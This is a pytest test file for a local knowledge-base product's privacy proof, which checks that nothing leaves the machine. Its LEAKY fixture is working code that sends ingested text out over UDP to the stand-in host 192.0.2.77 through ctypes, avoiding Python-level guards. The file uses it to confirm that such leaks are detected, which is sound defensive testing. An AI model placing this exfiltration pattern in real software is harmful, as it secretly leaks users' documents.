"""The proof that nothing leaves the machine: it passes here, and says so where something gets out or is not seen.

The product under observation is the real one with a tiny embedding model and the smallest language model.
"""

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import psutil
import pytest

from kb.assistant import KnowledgeBase
from kb.config import Settings, load_settings
from kb.errors import UsageError
from tests import tiny
from tests.ingest import lesser_kernels
from ui.proof import planted_leaks, proving
from ui.proof.journeys import JOURNEYS, STEPS
from ui.proof.proof_report import as_markdown, reasons
from ui.words.strings import Strings

ROOT = Path(__file__).parents[3]
SHORT = tiny.ENVIRONMENT | {"KB_LLM__EMBEDDED_MODEL": "smollm2-135m", "KB_LLM__ANSWER_TOKENS": "16"}
LEAKS = (*planted_leaks.IN_READER, *planted_leaks.IN_PRODUCT, "document_image", "answer_image")
LEAKY = """
import ctypes, socket, struct
from tests.tiny import TinyEmbedding
class Leaky(TinyEmbedding):
    def get_text_embedding_batch(self, texts):
        libc = ctypes.CDLL(None)
        made = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
        there = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(53), socket.inet_aton("192.0.2.77"))
        libc.sendto(made, texts[0].encode()[:200], 20, 0, there, 16)
        return super().get_text_embedding_batch(texts)
"""


@pytest.fixture(scope="module", autouse=True)
def _short(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The short form for all runs here. Their folders are made in the one that is given, and so seen."""
    place = tmp_path_factory.mktemp("place")
    with pytest.MonkeyPatch.context() as patch:
        for name, value in SHORT.items():
            patch.setenv(name, value)
        patch.setenv("PYTHONPATH", str(ROOT))
        patch.setattr("tempfile.tempdir", str(place))
        patch.syspath_prepend(str(ROOT))
        yield place


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("proof") / "home"
    KnowledgeBase.open(home, load_settings()).close()
    return home


@pytest.fixture(scope="module")
def report(home: Path, _short: Path) -> dict[str, Any]:
    before = {child.pid for child in psutil.Process().children(recursive=True)}
    made = proving.prove(load_settings(), home)
    assert list(_short.iterdir()) == []
    assert {child.pid for child in psutil.Process().children(recursive=True)} <= before
    return made


def test_it_passes_here_by_packets_and_by_system_calls(report: dict[str, Any]) -> None:
    assert reasons(report, Strings("en")) == ""
    assert report["passed"] is True
    assert report["observation"] == {"by": ["packets", "calls"], "not": {}, "lost_packets": 0}
    assert report["destinations"] == []
    assert report["unfinished"] == ""
    assert report["text_seen_by"] == []
    assert report["run"]["weights"]["smollm2-135m"] == report["run"]["model_digest"]


@pytest.mark.parametrize("name", JOURNEYS)
def test_a_journey_works_and_reaches_nothing_outside(report: dict[str, Any], name: str) -> None:
    journey = next(each for each in report["journeys"] if each["name"] == name)
    assert journey["problem"] == ""
    assert journey["done"]
    assert (journey["packets"], journey["look_ups"], journey["destinations"]) == (0, 0, [])
    assert name in ("search", "ingest") or journey["calls"]["connect"] > 0  # the trace saw what there was to see


@pytest.mark.parametrize("name", LEAKS)
def test_a_planted_leak_is_stopped(report: dict[str, Any], name: str) -> None:
    leak = next(each for each in report["leaks"] if each["name"] == name)
    assert (leak["state"], leak["expected"]) == ("stopped", True)
    assert leak["by"]


@pytest.mark.parametrize("name", planted_leaks.NOT_STOPPED)
def test_what_the_product_cannot_stop_is_tried_seen_and_told(report: dict[str, Any], name: str) -> None:
    leak = next(each for each in report["leaks"] if each["name"] == name)
    assert (leak["state"], leak["expected"]) == ("got through", False)
    assert "cannot stop" in as_markdown(report)


def test_people_read_it_in_both_languages(report: dict[str, Any]) -> None:
    page = as_markdown(report)
    assert "**Passed: " in page
    assert "**通过：" in page
    assert page.count("smollm2-135m") >= 2
    assert "No real browser ran" in page


def test_it_is_signed_with_the_homes_key_and_a_changed_one_is_told(
    report: dict[str, Any], home: Path, tmp_path: Path
) -> None:
    file = tmp_path / "report.json"
    file.write_text(json.dumps(report), encoding="utf-8")
    key = proving.signed_by(proving.read_report(file))
    assert key == report["signature"]["key"]
    assert kb("privacy", "check", str(file), "--key", key)[0] == 0
    assert kb("privacy", "check", str(file), "--key", "0" * 64)[0] == 1
    file.write_text(json.dumps({**report, "passed": False}), encoding="utf-8")
    code, out = kb("privacy", "check", str(file))
    assert (code, "changed since" in out) == (1, True)
    for text in (
        "",
        "[]",
        "{}",
        '{"passed": 1}',
        "[" * 100_000,
        '{"passed": true, "observation": 1, "signature": [1]}',
    ):
        file.write_text(text, encoding="utf-8")
        with suppress(UsageError):
            assert proving.signed_by(proving.read_report(file)) == ""


def kb(*arguments: str) -> tuple[int, str]:
    command = [sys.executable, "-c", "from ui.cli.main import main; main()", *arguments]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, timeout=120)
    return done.returncode, done.stdout + done.stderr


def test_the_product_under_observation_knows_no_other_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nor looks up the name of one."""
    file = tmp_path / "settings.yaml"
    file.write_text(
        "privacy: {allow: [gpu.lan]}\nllm: {ollama_host: 'http://gpu.lan:11434'}\n"
        "people: {sso: {issuer: 'https://login.example.org', client_id: kb, client_secret_file: /nowhere}}\n"
    )
    monkeypatch.setenv("KB_SSO_CLIENT_SECRET", "of the service alone")
    settings = load_settings(file, env={})
    assert len(settings.destinations) == 2
    environment = proving._environment(settings, file)
    assert load_settings(env=environment).destinations == ()
    assert "of the service alone" not in environment.values()


def test_a_product_that_leaks_does_not_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Native code in its own process, which no guard sees; the command ends with 1 and says where it went."""
    import typer

    from ui.cli import privacy

    (tmp_path / "leaky.py").write_text(LEAKY, encoding="utf-8")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("KB_EMBEDDING__LLAMAINDEX_CLASS", "leaky:Leaky")
    whole = proving.prove

    def part(settings: Settings, home: Path, config: Path | None) -> dict[str, Any]:
        return whole(settings, home, config, steps=("control", "ingest"))

    monkeypatch.setattr(proving, "prove", part)
    with pytest.raises(typer.Exit) as ended:
        privacy.prove(tmp_path / "out", json=True, home=tmp_path / "none", config=None)
    assert ended.value.exit_code == 1
    told = json.loads(capsys.readouterr().out)
    assert told["passed"] is False
    assert any(each.startswith("udp 192.0.2.77:53") for each in told["destinations"])
    assert "sendto 192.0.2.77:53" in told["destinations"]
    assert told["journeys"][0]["look_ups"] > 0
    assert "signature" not in told
    page = Path(told["report"]).with_suffix(".md").read_text(encoding="utf-8")
    assert "**NOT passed: something was sent outside: udp 192.0.2.77:53" in page


def staged(monkeypatch: pytest.MonkeyPatch, before: str) -> None:
    """Let the stage begin with some code, for what this machine has and others lack."""
    code = f"import sys\nfrom pathlib import Path\nfrom ui.proof import observation, stage, syscall_trace\n{before}\n"
    run = "stage.main(Path(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), sys.argv[4:])"
    monkeypatch.setattr(proving, "STAGE", (sys.executable, "-c", code + run))


NO_NAMESPACE = "stage.leave_for_loopback = lambda: 'user namespaces: Operation not permitted'"
NO_STRACE = "syscall_trace.strace = lambda: ''"


def test_without_a_namespace_the_trace_observes_and_nothing_is_tried_that_would_leave(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    staged(monkeypatch, NO_NAMESPACE)
    told = proving.prove(load_settings(), tmp_path, steps=("control", "leaks"))
    assert told["observation"]["by"] == ["calls"]
    assert told["observation"]["not"] == {"packets": "user namespaces: Operation not permitted"}
    assert "Packets: user namespaces: Operation not permitted" in as_markdown(told)
    states = {leak["name"]: leak["state"] for leak in told["leaks"]}
    assert {states[name] for name in LEAKS} == {"stopped"}
    assert {states[name] for name in planted_leaks.NOT_STOPPED} == {"not tried"}


def test_without_strace_the_packets_observe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    staged(monkeypatch, NO_STRACE)
    told = proving.prove(load_settings(), tmp_path, steps=("control",))
    assert told["observation"]["by"] == ["packets"]
    assert told["observation"]["not"] == {"calls": "strace is not installed"}


def test_where_nothing_observes_it_does_not_pass(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    staged(monkeypatch, f"{NO_NAMESPACE}\n{NO_STRACE}")
    told = proving.prove(load_settings(), tmp_path, steps=("control",))
    assert (told["observation"]["by"], told["passed"]) == ([], False)
    assert "nothing could be observed" in reasons(told, Strings("en"))


def test_a_leak_that_gets_through_a_lesser_kernel_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A kernel without seccomp, Landlock and user namespaces: the reading process is as free as any."""
    bootstrap = lesser_kernels.lacking("leave_network", "see_only", "call_only")
    code = (
        f"from ingest.reading import confined_process; confined_process.BOOTSTRAP = {bootstrap!r}; "
        "from ui.cli.main import main; main()"
    )
    staged(monkeypatch, f"observation.KB[2] = {code!r}")
    told = proving.prove(load_settings(), tmp_path, steps=("control", "leaks"))
    states = {leak["name"]: leak["state"] for leak in told["leaks"]}
    assert states["reader_ctypes"] == states["reader_subprocess"] == "got through"
    assert states["reader_python"] == "stopped"  # by the guard
    assert told["passed"] is False
    assert "a reader plug-in connects through ctypes" in reasons(told, Strings("en"))


def test_what_there_was_no_time_for_is_told(tmp_path: Path) -> None:
    told = proving.prove(load_settings(), tmp_path, seconds=0)
    assert told["passed"] is False
    assert told["unfinished"] == ", ".join(STEPS)


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
def test_it_can_be_interrupted_and_leaves_nothing(tmp_path: Path, number: int) -> None:
    place = tmp_path / "tmp"
    place.mkdir()
    command = [sys.executable, "-c", "from ui.cli.main import main; main()", "privacy", "prove", "--out", str(tmp_path)]
    process = subprocess.Popen(
        command, cwd=ROOT, env=os.environ | {"TMPDIR": str(place)}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    wait_for(lambda: any(place.glob("kb-proof-*/home")), 120)  # the first journey has begun
    started = psutil.Process(process.pid).children(recursive=True)
    assert started
    process.send_signal(number)
    assert process.wait(60) != 0
    wait_for(lambda: not any(place.iterdir()), 60)
    wait_for(lambda: not any(each.is_running() and each.status() != psutil.STATUS_ZOMBIE for each in started), 60)
    assert not list(tmp_path.glob("privacy-proof*"))


def wait_for(condition: Any, seconds: float) -> None:
    ended = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < ended
        time.sleep(0.05)


def test_a_place_that_cannot_be_written_is_told_before_anything_runs(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    code, out = kb("privacy", "prove", "--out", str(tmp_path / "file"))
    assert code == 2
    assert "Choose another folder" in out


@pytest.mark.parametrize(
    ("settings", "hosts"),
    [
        ({}, []),
        ({"llm": {"ollama_host": "http://gpu.lan:11434"}}, ["gpu.lan"]),
        ({"llm": {"ollama_host": "10.0.0.9", "engine": "ollama"}}, ["10.0.0.9"]),
        ({"llm": {"ollama_host": "gpu.lan", "engine": "embedded"}}, []),
        ({"llm": {"ollama_host": "0.0.0.0:11434"}}, []),
        ({"llm": {"engine": "llamaindex"}, "privacy": {"allow": ["api.lan"]}}, ["api.lan"]),
    ],
)
def test_who_else_sees_the_text_is_named(settings: dict[str, Any], hosts: list[str]) -> None:
    assert proving.readers_of_text(Settings.model_validate(settings)) == hosts
